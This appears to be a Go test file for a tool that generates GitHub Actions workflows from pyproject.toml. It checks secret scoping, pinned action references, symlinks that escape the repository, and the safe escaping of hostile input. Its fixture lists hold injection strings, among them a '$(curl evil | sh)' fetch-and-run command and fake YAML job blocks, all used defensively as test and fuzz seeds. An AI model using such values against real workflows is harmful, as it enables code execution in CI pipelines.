package workflow

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"
	"github.com/scheduled-actions/scheduled/internal/pyproject"
	"gopkg.in/yaml.v3"
)

// ownRepository is the golden project with its own steps.
func ownRepository(t *testing.T) fstest.MapFS {
	t.Helper()
	content, err := os.ReadFile("../../testdata/projects/own/pyproject.toml")
	if err != nil {
		t.Fatal(err)
	}
	return repository(string(content))
}

// TestOwnReferences syncs a project that has a release of checkout other than ours
// again: only ours takes the later one that a bot brings. Theirs is what
// pyproject.toml says, also where that went back to an earlier one.
func TestOwnReferences(t *testing.T) {
	const theirs = `"actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8" # v5.0.0`
	ours := checkout.String() + " # " + checkout.Version
	another := func(release string) string { return `"actions/checkout@` + strings.Repeat("a", 40) + `" # ` + release }
	rows := []struct {
		name, old, new string
		keep           bool
	}{
		{"nothing", "", "", true},
		{"later for theirs", theirs, another("v5.1.0"), false},
		{"later than ours for theirs", theirs, another("v9.0.0"), false},
		{"later for ours", ours, "actions/checkout@" + strings.Repeat("a", 40) + " # v8.0.0", true},
		{"earlier for theirs", theirs, another("v4.0.0"), false},
		{"ours in their place", theirs, ours, false},
		{"theirs in our place", ours, theirs, false},
	}
	for _, row := range rows {
		repo := ownRepository(t)
		apply(repo, plan(t, repo, "pyproject.toml", release))
		file := Dir + "/scheduled-rich.yml"
		before := string(repo[file].Data)
		if !strings.Contains(before, row.old) {
			t.Fatalf("no %s", row.old)
		}
		repo[file] = &fstest.MapFile{Data: []byte(strings.Replace(before, row.old, row.new, 1))}
		p := plan(t, repo, "pyproject.toml", release)
		if kept := len(p.Changes()) == 0; kept != row.keep || !kept && string(p.Updated[0].New) != before {
			t.Errorf("%s: kept %v\n%s", row.name, kept, p.Diff())
		}
	}
}

// TestNamedSteps finds secrets, variables and the token in the steps that their keys name,
// and nowhere else.
func TestNamedSteps(t *testing.T) {
	content, err := os.ReadFile("../../testdata/projects/steps/pyproject.toml")
	if err != nil {
		t.Fatal(err)
	}
	setup := []string{"Step 1 of before", "Step 2 of before", "Set up Python", "Step 1 of prepare"}
	later := []string{"Run entrypoint", "Deliver: Step 1 of after", "After: Tell the team", "After: Keep the logs"}
	want := map[string][]string{
		"secrets.PRIVATE_INDEX": setup, "secrets.API_KEY": {"Run entrypoint"}, "secrets.PROD_DATABASE_URL": {"Run entrypoint"},
		"github.token": {"Run entrypoint"}, "vars.ISSUES_CHANNEL": slices.Concat(setup, later),
		"vars.REGION": slices.Concat(setup[:1], setup[2:], later), // another step sets it itself
	}
	for _, c := range plan(t, repository(string(content)), "pyproject.toml", release).Created {
		if c.Job != "issues" {
			continue
		}
		doc, err := parse(c.New)
		if err != nil {
			t.Fatal(err)
		}
		at := map[string][]string{}
		eachScalar(doc, "", func(path, value string) {
			if _, within, found := strings.Cut(path, "/steps/"); found && named.MatchString(value) {
				step, _, _ := strings.Cut(within, "/")
				name := strings.Trim(value, "${} ")
				at[name] = append(at[name], step)
			}
		})
		if diff := cmp.Diff(want, at); diff != "" {
			t.Errorf("-want +got:\n%s", diff)
		}
	}
}

var named = regexp.MustCompile(`secrets\.|vars\.|github\.token`)

// TestSecretsStay finds secrets in the step of the entrypoint only.
func TestSecretsStay(t *testing.T) {
	for _, c := range plan(t, ownRepository(t), "pyproject.toml", release).Created {
		doc, err := parse(c.New)
		if err != nil {
			t.Fatal(err)
		}
		at := map[string]bool{}
		eachScalar(doc, "", func(path, value string) {
			if strings.Contains(value, "secrets.") {
				at[path[strings.Index(path, "steps"):]] = true
			}
		})
		want := map[string]bool{}
		switch path.Base(c.Path) {
		case "scheduled-rich.yml":
			want = map[string]bool{"steps/Run entrypoint/env/API_KEY": true, "steps/Run entrypoint/env/DATABASE_URL": true}
		case "scheduled-plain.yml":
			want = map[string]bool{"steps/Run entrypoint/env/DATABASE_URL": true}
		}
		if diff := cmp.Diff(want, at); diff != "" {
			t.Errorf("%s (-want +got):\n%s", c.Path, diff)
		}
	}
}

// eachScalar calls do for every scalar below node. The items of a list have the
// name that they say.
func eachScalar(node *yaml.Node, at string, do func(path, value string)) {
	switch node.Kind {
	case yaml.ScalarNode:
		do(at, node.Value)
	case yaml.MappingNode:
		for i := 0; i < len(node.Content); i += 2 {
			eachScalar(node.Content[i+1], path.Join(at, node.Content[i].Value), do)
		}
	default:
		for _, item := range node.Content {
			name := ""
			if item.Kind == yaml.MappingNode {
				name = item.Content[1].Value
			}
			eachScalar(item, path.Join(at, name), do)
		}
	}
}

// hostileTexts are values that try to break out of their place.
var hostileTexts = append(hostile,
	"uses: actions/checkout@aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa # v99.0.0", "- uses: x", "a: |", "x: >-", "'", "''", `"`, `\n`,
	"${GITHUB_ENV}", "$(curl evil | sh)", "${ {", "#", " # x", "a\u00a0", "%YAML 1.1", "---", "...", "*", "&", "!", "<<", "=", "\u00ff", "\u3000",
)

// hostileLines are texts of several lines of that kind.
var hostileLines = []string{
	"a\nb", "a\n\nb", "a \nb", "a\n b", "a\n  b\n c", " a\nb", "\ta\nb", "a\n\tb", "\na", "a\n#b", "a\n# scheduled: {}\nb",
	"x\nuses: actions/checkout@" + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" + " # v99.0.0", "x\n- uses: actions/checkout@" + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" + " # v99.0.0",
	"a\n---\nb", "a\n...\nb", "a\n🚀", "a\nü", "a: |\n  b", "a\n  \nb", "jobs:\n  evil:\n    runs-on: x", "a\n\\\nb", "a\n\"\n'",
	"cat <<'END'\n      - name: x\n        uses: scheduled-actions/scheduled@aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa # v99.0.0\nEND",
}

// hostileOptions has a job for each of them, in every place that takes any text.
func hostileOptions() (repo fstest.MapFS, texts []string) {
	var toml strings.Builder
	toml.WriteString("[tool.scheduled-actions]\nrescue = false\n")
	for i, text := range slices.Concat(hostileTexts, hostileLines) {
		if strings.TrimSpace(text) == "" {
			text = "x"
		}
		texts = append(texts, text)
		fmt.Fprintf(&toml, "[tool.scheduled.j%d]\nevery = \"day\"\nentrypoint = \"a:b\"\n[tool.scheduled-actions.jobs.j%[1]d]\n", i)
		value := tomlText(text)
		if !strings.Contains(text, "\n") {
			fmt.Fprintf(&toml, "env = { uses = %s, steps = %[1]s, null = %[1]s }\nservices = { uses = { image = \"a:1\", env = { uses = %[1]s }, options = %[2]s } }\n",
				value, tomlText(`--label "`+strings.NewReplacer(`\`, "/", `"`, `\"`).Replace(text)+`"`))
		}
		fmt.Fprintf(&toml, "prepare = [%s]\nafter = [{ run = %[1]s, when = \"always\" }]\n", value)
		fmt.Fprintf(&toml, "before = [%s, { name = \"x\", uses = \"./x\", with = { uses = %[1]s, jobs = %[1]s } }]\n", value)
	}
	return repository(toml.String()), texts
}

// TestHostileOptions reads them back from the files. A second sync changes nothing,
// and takes none of them for a reference to an action.
func TestHostileOptions(t *testing.T) {
	repo, texts := hostileOptions()
	p := plan(t, repo, "pyproject.toml", release)
	if len(p.Created) != len(texts) {
		t.Fatalf("%d files for %d texts", len(p.Created), len(texts))
	}
	for _, c := range p.Created {
		lint(t, c.Path, c.New)
		var i int
		fmt.Sscanf(c.Job, "j%d", &i)
		want := texts[i]
		doc, err := parse(c.New)
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		eachScalar(doc, "", func(path, value string) {
			if strings.HasSuffix(path, "/uses") && (strings.Contains(path, "/env/") || strings.Contains(path, "/with/")) || strings.HasSuffix(path, "/run") {
				if value == want {
					found++
				} else if !strings.Contains(path, "Set up") && !strings.Contains(path, "${{ steps.run.outputs.") {
					t.Errorf("%s of %q is %q", path, want, value)
				}
			}
		})
		if found < 2 {
			t.Errorf("%q was found %d times", want, found)
		}
		for action, u := range references(c.New) {
			if strings.HasPrefix(u.Ref, "aaaa") {
				t.Errorf("%q was taken for a reference to %s", want, action)
			}
		}
	}
	apply(repo, p)
	if again := plan(t, repo, "pyproject.toml", Uses{Action: release.Action, Ref: "v1"}); len(again.Changes()) > 0 {
		t.Errorf("a second sync changes files:\n%s", again.Diff())
	}
}

// TestHostilePaths renders any path that is taken. A second sync changes nothing.
func TestHostilePaths(t *testing.T) {
	taken := 0
	for _, text := range slices.Concat(hostileTexts, []string{"a?", "[a]", "a b", "#a", "~a/b", "a,b", "ü/*", "-a", "@a", "%a", "a: b", "{a,b}", "..a"}) {
		value := tomlText(text)
		repo := repository("[tool.scheduled.a]\nevery = \"day\"\nentrypoint = \"a:b\"\n[tool.scheduled-actions]\nrescue = false\n" +
			"artifacts = { paths = [" + value + ", \"" + ".b\"] }\ncache = [" + value + "]\n")
		project, err := pyproject.Load(repo, "pyproject.toml", "pyproject.toml")
		if err != nil {
			continue
		}
		taken++
		target := Target{Project: project, Path: "pyproject.toml", Action: release}
		p, err := target.Plan(repo)
		if err != nil {
			t.Fatal(err)
		}
		lint(t, text, p.Created[0].New)
		doc, err := parse(p.Created[0].New)
		if err != nil {
			t.Fatal(err)
		}
		eachScalar(doc, "", func(path, value string) {
			if lines := strings.Split(value, "\n"); strings.HasSuffix(path, "/with/path") && len(lines) != 1 && len(lines) != 4 {
				t.Errorf("%q became %q", text, lines)
			} else if strings.HasSuffix(path, "/with/path") && strings.ContainsAny(lines[0][:1], "!#~ /") {
				t.Errorf("%q became %q", text, lines)
			}
		})
		apply(repo, p)
		if again, err := target.Plan(repo); err != nil || len(again.Changes()) > 0 {
			t.Errorf("a second sync: %v\n%s", err, again.Diff())
		}
	}
	if taken < 20 {
		t.Errorf("only %d paths were taken", taken)
	}
}

// TestLinks refuses a path through a link that leads out of the repository.
func TestLinks(t *testing.T) {
	link := func(to string) *fstest.MapFile { return &fstest.MapFile{Mode: fs.ModeSymlink, Data: []byte(to)} }
	for name, row := range map[string]struct{ key, option, want string }{
		"a folder":               {"artifacts", `["out/x"]`, "out"},
		"of a commit":            {"commit", `["out/x"]`, "out"},
		"the path itself":        {"cache", `["data/out"]`, "data/out"},
		"an absolute link":       {"artifacts", `["abs/*.csv"]`, "abs"},
		"a link to a link":       {"artifacts", `["twice"]`, "twice"},
		"workflows":              {"artifacts", `["flows/x.yml"]`, "flows"},
		"within":                 {"artifacts", `["within/x", "none", "data/none"]`, ""},
		"links of a wild folder": {"artifacts", `["*/out"]`, "abs"},
		"below a folder":         {"artifacts", `["data"]`, "data/out"},
		"in a link":              {"artifacts", `["data/*/hosts"]`, "data/out"},
		"anywhere":               {"artifacts", `["**/hosts"]`, "abs"},
		"all":                    {"artifacts", `["."]`, "abs"},
		"a hidden one":           {"artifacts", `["hid/**"]`, ""},
		"a hidden one, named":    {"artifacts", `["hid/.*"]`, "hid/.out"},
		"a hidden one, kept":     {"cache", `["hid/**"]`, "hid/.out"},
		"to the root":            {"cache", `["up/**"]`, "up/here"},
		"git follows none":       {"commit", `["data", "hid/**"]`, ""},
		"of an environment":      {"artifacts", `["env"]`, ""},
	} {
		repo := repository("[tool.scheduled.a]\nevery = \"day\"\nentrypoint = \"a:b\"\n[tool.scheduled-actions.jobs.a]\n" + row.key + " = " + row.option + "\n")
		repo["out"], repo["data/out"], repo["abs"], repo["twice"] = link("../elsewhere"), link("../../elsewhere"), link("/etc"), link("out")
		repo["hid/.out"], repo["up/here"], repo["env/python"], repo["env/pyvenv.cfg"] = link("/etc"), link(".."), link("/bin/python"), link("x")
		repo["within"], repo["flows"] = link("data"), link(".github/workflows")
		_, err := Target{Project: load(t, repo, "pyproject.toml"), Path: "pyproject.toml", Action: release}.Plan(repo)
		failed, _ := errors.AsType[*EnvironmentError](err)
		switch {
		case row.want == "" && err != nil, row.want != "" && failed == nil:
			t.Errorf("%s: %v", name, err)
		case failed != nil && (failed.Option != row.key || !strings.Contains(err.Error(), `and "`+row.want+`" is a symbolic link`)):
			t.Errorf("%s: %s: %v", name, failed.Option, err)
		}
	}
}

// tomlText writes any text as a TOML string.
func tomlText(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`, "\t", `\t`).Replace(s) + `"`
}

// TestLines checks what becomes a block.
func TestLines(t *testing.T) {
	for value, block := range map[string]bool{
		"a\nb": true, "f() {\n  g\n}": true, "x=(\n1\n)": true, "a\n\n\tb\nc d": true, "a\n\n\nb": true,
		"a": false, "a\n": false, "a\n\n": false, "\na\nb": false, " a\nb": false, "a \nb": false, "a\n \nb": false, "a\nb ": false, "a\nü": false,
	} {
		if got := lines(value).Style == yaml.LiteralStyle; got != block {
			t.Errorf("%q: %v", value, got)
		}
	}
}

// TestProjectsApart has jobs of one id in several folders, whose files all go into
// one.
func TestProjectsApart(t *testing.T) {
	long := strings.Repeat("deeply/", 60) + "project"
	repo := fstest.MapFS{}
	folders := []string{".", "a", "A", "a-b", "a/b", "a_b", "sync", "rescue", "ümlaut", long}
	for _, folder := range folders {
		repo[path.Join(folder, "pyproject.toml")] = &fstest.MapFile{Data: []byte("[tool.scheduled.clean]\nevery = \"day\"\nentrypoint = \"a:b\"\n" +
			"[tool.scheduled." + strings.Repeat("x", 100) + "]\nevery = \"day\"\nentrypoint = \"a:b\"\n")}
	}
	files := map[string]string{}
	for _, folder := range folders {
		p := plan(t, repo, path.Join(folder, "pyproject.toml"), release)
		if len(p.Created) != 3 {
			t.Errorf("%s: %s", folder, summary(p))
		}
		for _, c := range p.Created {
			name := strings.ToLower(path.Base(c.Path))
			if other, taken := files[name]; taken || len(name) > 150 {
				t.Errorf("%s and %s have the same file %s", folder, other, name)
			}
			files[name] = folder
		}
		apply(repo, p)
	}
	for _, folder := range folders[1:] { // the files of the others look like those of the one at the root
		hidden := map[string]bool{}
		for name, whose := range files {
			hidden[name] = whose != folder
		}
		file := path.Join(folder, "pyproject.toml")
		p, err := Target{Project: load(t, repo, file), Path: file, Action: release, Remote: true}.Plan(unreadable{repo, hidden})
		if err != nil || len(p.Unchanged) != 3 || len(p.Changes()) > 0 {
			t.Errorf("%s: %s, %v", folder, summary(p), err)
		}
	}
}

// FuzzOwn renders any text that a project may have, in every place. The file says
// what was meant, a second sync has nothing to do, and no text is taken for an action.
func FuzzOwn(f *testing.F) {
	for _, text := range slices.Concat(hostileTexts, hostileLines) {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		value := tomlText(text)
		toml := "[tool.scheduled.a]\nevery = \"day\"\nentrypoint = \"a:b\"\n[tool.scheduled-actions]\nrescue = false\n" +
			"before = [" + value + ", { name = \"x\", uses = \"./x\", with = { uses = " + value + " } }]\n"
		if !strings.Contains(text, "\n") {
			toml += "env = { uses = " + value + " }\n"
		}
		repo := repository(toml)
		project, err := pyproject.Load(repo, "pyproject.toml", "pyproject.toml")
		if err != nil {
			return
		}
		target := Target{Project: project, Path: "pyproject.toml", Action: release}
		p, err := target.Plan(repo)
		if err != nil {
			t.Fatal(err)
		}
		for action := range references(p.Created[0].New) {
			if action != checkout.Action && action != release.Action && action != "actions/setup-python" {
				t.Errorf("%s was taken for an action", action)
			}
		}
		apply(repo, p)
		if again, err := target.Plan(repo); err != nil || len(again.Changes()) > 0 {
			t.Errorf("a second sync: %v\n%s", err, again.Diff())
		}
	})
}
